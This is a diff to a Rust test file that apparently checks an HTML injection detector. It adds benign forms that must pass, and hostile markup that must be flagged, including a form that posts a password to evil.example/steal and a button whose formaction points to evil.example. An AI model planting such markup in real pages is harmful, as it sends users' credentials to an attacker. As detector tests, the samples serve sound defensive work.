@@ -115,6 +115,8 @@ fn benign_html_ish_text_is_not_blocked() {
         "{\"key\": \"value\", \"n\": [1, 2, 3]}",
         "C:\\Program Files\\App",
         "<!-- a comment -->",
+        "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>",
+        "<input type=\"password\" name=\"pw\">",
     ];
     for b in benign {
         assert!(hit(b, Level::Balanced).is_none(), "false positive {b:?} (confidence {})", conf(b));
@@ -189,6 +191,8 @@ fn markup_that_runs_or_rewires_without_an_on_attribute() {
         "<listener event=\"click\" handler=\"#run\" xmlns=\"http://www.w3.org/2001/xml-events\"/>",
         "<b xmlns:e=\"http://www.w3.org/2001/xml-events\" e:event=\"load\" e:handler=\"#h\">x</b>",
         "<ilayer src=\"//evil.example/p.html\"></ilayer>",
+        "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"></form>",
+        "<button formaction=//evil.example/x>Sign in</button>",
         "\"}]</script>",
         "';</script>",
         // Context breaks and obfuscations the tokenizer already reads.
